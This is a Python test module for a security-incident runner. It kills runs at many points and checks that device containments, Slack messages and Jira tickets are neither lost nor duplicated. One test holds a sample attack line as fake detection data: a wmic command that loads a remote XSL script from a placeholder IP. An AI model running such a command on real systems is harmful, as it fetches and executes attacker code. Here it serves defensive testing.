"""The promises, proved by killing: nothing is lost and nothing happens twice, wherever it dies.

The stories and what is done to them are those of `stockade drill`; here they are played further,
and with runners that lack a safeguard, to see the checks fail.
"""

from __future__ import annotations

import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

import pytest

from runner import drill_trials as trials
from runner.drill import AT_ONCE, one_of_each
from runner.drill_checks import violations
from runner.drill_child import NEEDS_A_PERSON, is_over
from runner.drill_crew import Crew
from runner.drill_story import Quiet, choose, play_quietly
from runner.drill_trials import BEYOND, Spot, Stage, Trial, die_in_flight, run_two, spoil
from runner.drill_world import DrillWorld
from tests.fences import ROOT
from tests.polling import raw_hit

STORY = choose("wmic-format")


@pytest.fixture(scope="module")
def crew() -> Iterator[Crew]:
    with Crew(AT_ONCE, module="tests.mutants") as crew:
        yield crew


@pytest.fixture(scope="module")
def quiet(crew: Crew, tmp_path_factory: pytest.TempPathFactory) -> Quiet:
    found, wrong = play_quietly(crew, tmp_path_factory.mktemp("quiet") / "world", STORY)
    assert (found is not None, wrong) == (True, [])
    assert found is not None
    return found


@pytest.fixture
def stage(crew: Crew, quiet: Quiet, tmp_path: Path) -> Stage:
    return Stage(crew=crew, folder=tmp_path, story=STORY, quiet=quiet.picture)


def faults_of(done: list[Trial]) -> str:
    return "\n".join(f"{trial.what}: {text}" for trial in done for text in trial.found)


# -- one runner ------------------------------------------------------------------------------------


def test_story_without_a_kill_then_it_is_the_demo(quiet: Quiet) -> None:
    assert quiet.picture["cases"].total() == 4
    assert dict(quiet.picture["cuts"]) == {
        "contain WORKSTATION5": 1,
        "contain WORKSTATION7-SYNTHETIC": 1,
    }
    assert sum("malicious" in line for line in quiet.picture["cases"]) == 1
    assert quiet.picture["tickets"].total() == 1
    assert "the last comment of SEC-1 tells the end" in quiet.picture["ticket_texts"]


def test_story_when_killed_at_every_point_then_nothing_is_lost_or_done_twice(
    stage: Stage, quiet: Quiet, capsys: pytest.CaptureFixture[str]
) -> None:
    total = len(quiet.points)
    done = stage.crew.map(partial(trials.kill_at, stage), range(1, total + BEYOND))
    killed = [trial for trial in done if trial.kills]
    found = faults_of(done)
    with capsys.disabled():
        sys.stdout.write(
            f"\nthe quiet story has {total} points: {len(killed)} points reached, "
            f"{len(killed)} kills, {len(found.splitlines())} violations\n"
        )
    assert found == ""
    assert len(killed) >= 0.9 * total
    assert {
        "commit",
        *(f"{when} POST /devices/entities/devices-actions/v2" for when in ("before", "after")),
        *(f"{when} POST /api/chat.postMessage" for when in ("before", "after")),
        *(f"{when} POST /rest/api/3/issue" for when in ("before", "after")),
    } <= {trial.last for trial in killed}


def test_story_when_killed_again_while_recovering_then_nothing_is_lost_or_done_twice(
    stage: Stage,
) -> None:
    chance = random.Random(1)  # noqa: S311
    plans = [
        [chance.randrange(1, 230), *(chance.randrange(1, 60) for _ in range(chance.randint(1, 3)))]
        for _ in range(16)
    ]
    assert faults_of(stage.crew.map(partial(trials.kill_again, stage), plans)) == ""


def test_story_when_killed_while_a_slow_server_has_the_request_then_it_is_found_and_not_repeated(
    stage: Stage, quiet: Quiet
) -> None:
    # Each kind, and some more; `make soak` does all of them.
    spots = [*one_of_each(quiet.spots), *quiet.spots[1::4]]
    done = stage.crew.map(partial(trials.kill_in_flight, stage), list(dict.fromkeys(spots)))
    assert faults_of(done) == ""
    assert sum(trial.last.startswith("during") for trial in done) >= len(done) - 2


def test_story_when_answers_are_lost_after_the_effect_then_it_is_adopted_and_not_repeated(
    stage: Stage, quiet: Quiet
) -> None:
    # Each kind of request, each kind of loss; `make soak` does all pairs.
    lost = trials.losses(quiet.spots)[::2]
    assert faults_of(stage.crew.map(partial(trials.lose_answers, stage), lost)) == ""


# -- two runners -----------------------------------------------------------------------------------


def test_story_when_two_runners_overlap_then_nothing_is_lost_or_done_twice(stage: Stage) -> None:
    done = stage.crew.map(partial(trials.overlap, stage), range(12), each=2)
    assert faults_of(done) == ""


def test_story_when_one_of_two_runners_keeps_dying_then_nothing_is_lost_or_done_twice(
    stage: Stage,
) -> None:
    done = stage.crew.map(partial(trials.overlap_dying, stage), range(8), each=2)
    assert faults_of(done) == ""
    assert sum(trial.kills for trial in done) >= len(done)


# -- the command itself ----------------------------------------------------------------------------


def command(world: DrillWorld) -> subprocess.Popen[bytes]:
    config = world.folder / "config.yaml"
    return subprocess.Popen(
        [sys.executable, "-m", "runner.cli", "run", "--detailed-exit-code", "-c", str(config)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


def test_run_when_killed_at_any_moment_beside_another_then_nothing_is_lost_or_done_twice(
    stage: Stage,
) -> None:
    def trial(seed: int) -> tuple[int, tuple[str, ...]]:
        chance = random.Random(seed)  # noqa: S311
        with stage.world(str(seed)) as world:
            world.arm()
            for _ in range(3):
                with command(world) as dying, command(world) as beside:
                    time.sleep(0.4 + chance.random())
                    os.kill(dying.pid, signal.SIGKILL)
                    beside.wait()
            return seed, end_by_command(stage, world)

    with ThreadPoolExecutor(3) as pool:
        assert [found for found in pool.map(trial, range(6)) if found[1]] == []


def end_by_command(stage: Stage, world: DrillWorld) -> tuple[str, ...]:
    """Run the command as cron does until the story is over, and judge it."""
    for _ in range(8):
        with command(world) as process:
            said = process.stderr.read().decode() if process.stderr else ""
        if process.returncode == NEEDS_A_PERSON:
            world.resolve()
        elif process.returncode not in (0, 3):
            return (f"stockade run ended with {process.returncode}: {said}",)
        with world.journal() as journal:
            if is_over(journal, world.story.hits.search):
                return stage.judge(world)
    return ("the story did not end", *stage.judge(world))


# -- the checks can fail ---------------------------------------------------------------------------

POST = Spot(product="slack", method="POST", path="*/chat.postMessage", place=1)
FILE = Spot(product="jira", method="POST", path="*/attachments", place=1)
OPEN = Spot(product="jira", method="POST", path="*/rest/api/3/issue", place=1)
CUT = Spot(product="falcon", method="POST", path="*/devices-actions/*", place=1)


def judged(stage: Stage, world: DrillWorld) -> str:
    return "\n".join(violations(world, stage.quiet))


def test_checks_when_intents_are_not_kept_then_they_complain(stage: Stage) -> None:
    def trial(spot: Spot) -> str:
        with stage.world(spot.product) as world:
            dying = world.order(point=f"after POST {spot.path}", kill_at=1)
            assert stage.crew.send(dying).was_killed
            stage.crew.send(world.order(wiring="forgetful"))
            return judged(stage, world)

    posted, filed, cut = stage.crew.map(trial, [POST, FILE, CUT])
    assert "cards: card ask-" in posted
    assert "tickets: file evidence-" in filed
    assert "ledger: «WORKSTATION" in cut


def test_checks_when_nobody_looks_for_what_was_sent_then_they_complain(stage: Stage) -> None:
    def trial(spot: Spot, wiring: str) -> str:
        with stage.world(f"{spot.product}-{wiring}") as world:
            dying = world.order(point=f"after POST {spot.path}", kill_at=1)
            assert stage.crew.send(dying).was_killed
            stage.crew.send(world.order(wiring=wiring))
            return judged(stage, world)

    spots, wirings = [OPEN, POST, OPEN, POST], ["blind", "blind", "real", "real"]
    with ThreadPoolExecutor(4) as pool:
        opened, posted, *seeing = pool.map(trial, spots, wirings)
    assert seeing == ["", ""]
    assert "tickets: label stockade-" in opened
    assert "cards: card ask-" in posted


def test_checks_when_questions_claim_nothing_then_they_complain(stage: Stage) -> None:
    def trial(wiring: str) -> list[str]:
        with stage.world(wiring) as world:
            # Another harmful start on the same host is a case of its own, about the same device.
            again = r"wmic process list /format:http://198.51.100.9/other.xsl"
            raw = raw_hit(1, "WORKSTATION5", again) | {"User": r"WORKGROUP\wardog"}
            world.products.splunk.add_event(raw, age_s=20, index_age_s=20)
            spoil(world, POST, times=None, delay_before_s=0.3)
            stage.crew.send(world.order(wiring=wiring))
            return violations(world)

    claimed, unclaimed = stage.crew.map(trial, ["real", "unclaimed"])
    assert claimed == []
    assert any("was asked about twice at once" in text for text in unclaimed)


def test_checks_when_nobody_waits_for_a_request_to_settle_then_they_complain(
    stage: Stage,
) -> None:
    def trial(spot: Spot) -> str:
        with stage.world(spot.product, settle_s=0) as world:
            # Long enough that the next runner looks before that, on a busy machine, too.
            assert die_in_flight(stage.crew, world, spot, acts_after_s=8.0).was_killed
            stage.crew.send(world.order())
            time.sleep(8.0)
            return judged(stage, world)

    opened, posted, cut = stage.crew.map(trial, [OPEN, POST, CUT])
    assert "tickets: label stockade-" in opened
    assert "cards: card ask-" in posted
    assert "cuts: the request to contain WORKSTATION" in cut


def test_checks_when_two_runners_own_the_journal_then_they_complain(
    stage: Stage, quiet: Quiet
) -> None:
    # Nobody dies and no answer is lost: without a settle time only the lock keeps them apart.
    def trial(number: int, wiring: str) -> str:
        with stage.world(str(number), settle_s=0) as world:
            for spot in one_of_each(quiet.spots):
                spoil(world, spot, times=None, delay_before_s=0.15)
            run_two(stage.crew, world, seed=1, wiring=wiring, lives_s=25.0)
            return judged(stage, world)

    assert trial(0, "real") == ""
    # Whether two without a lock meet is a matter of moments.
    assert any("there 2 times" in trial(number, "unlocked") for number in range(1, 5))


def test_checks_when_nothing_was_done_then_all_that_is_missing_is_named(stage: Stage) -> None:
    with stage.world("world") as world:
        world.arm()
        complaining = {text.partition(":")[0] for text in violations(world, stage.quiet)}
    assert complaining == set(stage.quiet)
